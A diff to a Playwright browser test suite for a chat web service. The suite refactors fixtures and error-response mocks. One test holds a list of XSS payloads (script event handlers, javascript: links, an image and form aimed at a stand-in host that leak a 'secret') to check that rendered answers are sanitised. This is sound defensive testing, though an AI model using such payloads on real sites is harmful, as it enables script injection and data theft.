@@ -17,7 +17,7 @@ from tests.kit.apps import write_app
 from tests.kit.browser import Visitor, Watch, chromium
 from tests.kit.debian import ANSWER_SNIPPET, QUESTION, debian_pdf
 from tests.kit.server import ROOT, Server
-from tests.kit.upstream import Answer, Gate, Upstream, faults
+from tests.kit.upstream import Gate, Upstream, faults
 
 pytestmark = pytest.mark.browser
 
@@ -44,7 +44,7 @@ def apps(tmp_path_factory: pytest.TempPathFactory) -> Path:
 @pytest.fixture(scope="module")
 def offline(browser: Browser, apps: Path) -> Iterator[Server]:
     """The service as `make run` starts it: without any model but the stand-in."""
-    with Server(apps.parent / "offline", apps, STAND_IN_WORDS_PER_SECOND="60") as server:
+    with Server(apps.parent / "offline", {"STAND_IN_WORDS_PER_SECOND": "60"}, apps) as server:
         yield server
 
 
@@ -57,17 +57,20 @@ def provider() -> Iterator[Upstream]:
 @pytest.fixture(scope="module")
 def online(browser: Browser, apps: Path, provider: Upstream) -> Iterator[Server]:
     """The service with a model that says what a test scripts."""
-    with Server(apps.parent / "online", apps, OPENAI_BASE_URL=provider.url, OPENAI_API_KEY="sk-page") as server:
+    model = {"OPENAI_BASE_URL": provider.url, "OPENAI_API_KEY": "sk-page"}
+    with Server(apps.parent / "online", model, apps) as server:
         yield server
 
 
 @pytest.fixture
-def visit(browser: Browser, request: pytest.FixtureRequest) -> Iterator[Visit]:
+def visit(browser: Browser) -> Iterator[Visit]:
     """Makes visitors of a server; at the end nothing that a page must not do has happened."""
     visitors: list[Visitor] = []
 
     def visit(server: Server, **options: Any) -> Visitor:
-        context = browser.new_context(**{"reduced_motion": "reduce", "viewport": {"width": 1280, "height": 800}, **options})
+        context = browser.new_context(
+            **{"reduced_motion": "reduce", "viewport": {"width": 1280, "height": 800}, **options}
+        )
         context.set_default_timeout(10_000)
         watch = Watch(server.url)
         watch.over(context)
@@ -283,7 +286,9 @@ def test_the_page_works_by_keyboard_alone(visit: Visit, online: Server, provider
     expect(ada.dialog).to_be_visible()
     for _ in range(6):  # the focus goes round inside
         keyboard.press("Tab")
-    assert page.evaluate("document.querySelector('dialog').contains(document.activeElement) || document.activeElement === document.body")
+    assert page.evaluate(
+        "document.querySelector('dialog').contains(document.activeElement) || document.activeElement === document.body"
+    )
     keyboard.press("Escape")
     expect(page.locator(".citation")).to_be_focused()
     expect(page.get_by_role("log")).to_contain_text("They are long")
@@ -322,7 +327,9 @@ def test_on_a_phone_the_sidebar_is_a_drawer(visit: Visit, online: Server, provid
     long_line = "`" + "x" * 300 + "`"
     provider.enqueue(f"Wide things: {long_line}\n\n```\n{long_line}\n```\n\n|a|b|\n|-|-|\n|{long_line}|2| [1]")
     ada.answered("Is it wide?")
-    assert page.evaluate("document.documentElement.scrollWidth <= innerWidth && document.querySelector('#scroller').scrollWidth <= innerWidth")
+    assert page.evaluate(
+        "document.documentElement.scrollWidth <= innerWidth && document.querySelector('#scroller').scrollWidth <= innerWidth"
+    )
 
     page.get_by_role("button", name="Open the menu").tap()
     expect(sidebar).to_be_visible()
@@ -370,7 +377,7 @@ HOSTILE = [
     "<svg onload=window.pwned=1><a xlink:href='javascript:window.pwned=1'>x</a></svg>",
     "[press](javascript:window.pwned=1) [press](data:text/html,<script>window.pwned=1</script>)",
     "[press](java\tscript:window.pwned=1) <javascript:window.pwned=1>",
-    "![picture](http://192.0.2.1/leak.png?q=secret) ![x](x\" onerror=\"window.pwned=1)",
+    '![picture](http://192.0.2.1/leak.png?q=secret) ![x](x" onerror="window.pwned=1)',
     "<iframe src='http://192.0.2.1/'></iframe><object data=x></object><embed src=x>",
     "<form action='http://192.0.2.1/'><button>Sign in</button></form><input autofocus onfocus=window.pwned=1>",
     "<style>body { display: none }</style><link rel=stylesheet href='http://192.0.2.1/x.css'>",
@@ -380,7 +387,10 @@ HOSTILE = [
     "```<img src=x onerror=window.pwned=1>\n<img src=x onerror=window.pwned=1>\n```",
     "<details open ontoggle=window.pwned=1><summary>s</summary></details> <meta http-equiv=refresh content=0;url=http://192.0.2.1/>",
 ]
-ALLOWED = set("a blockquote br button code del div em h3 h4 h5 h6 hr kbd li ol p pre strong sub sup table tbody td th thead tr ul".split())
+ALLOWED = {
+    *("h3", "h4", "h5", "h6", "p", "ul", "ol", "li", "blockquote", "pre", "hr", "br", "div", "button"),
+    *("table", "thead", "tbody", "tr", "th", "td", "a", "code", "del", "em", "kbd", "strong", "sub", "sup"),
+}
 
 
 def test_hostile_text_stays_text_wherever_it_appears(
@@ -408,7 +418,9 @@ def test_hostile_text_stays_text_wherever_it_appears(
     )
     assert {tag for tag, _ in made} <= ALLOWED
     attributes = [attribute for _, found in made for attribute in found]
-    assert not [attribute for attribute in attributes if re.match(r"on|style|id=|name=|src|href=(?!https?:|mailto:)", attribute)]
+    assert not [
+        attribute for attribute in attributes if re.match(r"on|style|id=|name=|src|href=(?!https?:|mailto:)", attribute)
+    ]
     links = page.locator(".prose a")
     assert {link.get_attribute("rel") for link in links.all()} == {"noopener noreferrer nofollow"}
     for link in links.all():
@@ -416,31 +428,42 @@ def test_hostile_text_stays_text_wherever_it_appears(
     assert page.evaluate("window.pwned") is None
 
 
-@pytest.mark.parametrize(
-    ("status", "code", "headers", "title", "advice"),
-    [
-        (413, "too_large", {}, "This is too large", "Shorten it"),
-        (422, "unprocessable", {}, "This cannot be sent as it is", "The reason."),
-        (429, "budget_spent", {"Retry-After": "30"}, "As the server calls it", "Try again in 30 seconds."),
-        (503, "upstream_config", {}, "The model is not set up rightly", "OPENAI_API_KEY"),
-        (500, "internal", {}, "Something went wrong inside Brainstem", "Reference r-17"),
-    ],
-)
-def test_a_refusal_says_what_to_do(
-    visit: Visit, online: Server, name: str, status: int, code: str, headers: dict[str, str], title: str, advice: str
-) -> None:
+def test_a_refusal_says_what_to_do(visit: Visit, online: Server, name: str) -> None:
     ada = visit(online).come(name)
-    body = {"status": status, "code": code, "title": "As the server calls it", "detail": "The reason.", "requestId": "r-17"}
-    answer = {"status": status, "headers": headers, "content_type": "application/problem+json", "body": json.dumps(body)}
-    ada.page.route("**/messages", lambda route: route.fulfill(**answer), times=1)
-    ada.ask("Please")
-    expect(ada.note).to_contain_text(title)
-    expect(ada.note).to_contain_text(advice)
-    ada.watch.allow(f"status of {status}")
-    ada.button("Edit", ada.note).click()
-    expect(ada.page.get_by_label("Your question")).to_have_value("Please")
+    for status, code, title, advice in [
+        (413, "too_large", "This is too large", "Shorten it"),
+        (422, "unprocessable", "This cannot be sent as it is", "The reason."),
+        (429, "budget_spent", "As the server calls it", "Try again in 30 seconds."),
+        (503, "upstream_config", "The model is not set up rightly", "OPENAI_API_KEY"),
+        (500, "internal", "Something went wrong inside Brainstem", "Reference r-17"),
+    ]:
+        refuse_once(ada, status, code)
+        ada.ask("Please")
+        expect(ada.note).to_contain_text(title)
+        expect(ada.note).to_contain_text(advice)
+        ada.watch.allow(f"status of {status}")
+        ada.button("Edit", ada.note).click()
+        expect(ada.turns).to_have_count(0)
+        expect(ada.page.get_by_label("Your question")).to_have_value("Please")
     ada.page.keyboard.press("Enter")
     expect(ada.turns).to_have_attribute("data-status", "COMPLETED")
+
+
+def refuse_once(visitor: Visitor, status: int, code: str) -> None:
+    """Answer the next message with a problem, as the server words it."""
+    problem = {
+        "status": status,
+        "code": code,
+        "title": "As the server calls it",
+        "detail": "The reason.",
+        "requestId": "r-17",
+    }
+    headers = {"Retry-After": "30", "Content-Type": "application/problem+json"}
+
+    def refuse(route: Route) -> None:
+        route.fulfill(status=status, headers=headers, body=json.dumps(problem))
+
+    visitor.page.route("**/messages", refuse, times=1)
 
 
 def test_a_message_that_may_have_arrived_is_sent_again_as_the_same_one(visit: Visit, online: Server, name: str) -> None:
@@ -474,8 +497,7 @@ def test_a_model_that_fails_is_explained_and_can_be_asked_again(
 
 def test_a_spent_token_is_renewed_without_a_word(visit: Visit, online: Server, name: str) -> None:
     ada = visit(online).come(name)
-    refuse: Callable[[Route], None] = lambda route: route.fulfill(status=401, body='{"code": "invalid_token"}')  # noqa: E731
-    ada.page.route("**/messages", refuse, times=1)
+    refuse_once(ada, 401, "invalid_token")
     ada.answered("Still there?")
     ada.watch.allow("status of 401")
     expect(ada.note).to_have_count(0)
@@ -587,3 +609,10 @@ def test_the_vendored_modules_are_those_of_the_note() -> None:
     assert dict(rows) == {path.name: hashlib.sha256(path.read_bytes()).hexdigest() for path in vendor.glob("*.js")}
 
 
+def test_every_module_is_loaded_ahead_and_none_is_inline() -> None:
+    web = ROOT / "web"
+    page = (web / "index.html").read_text()
+    ahead = set(re.findall(r'<link rel="modulepreload" href="/web/(\S+)">', page))
+    modules = {str(path.relative_to(web)) for path in web.rglob("*.js")}
+    assert ahead == modules - {"early.js", "main.js"}
+    assert not re.search(r"<script(?![^>]*\bsrc=)|<style|\sstyle=|\son\w+=", page)
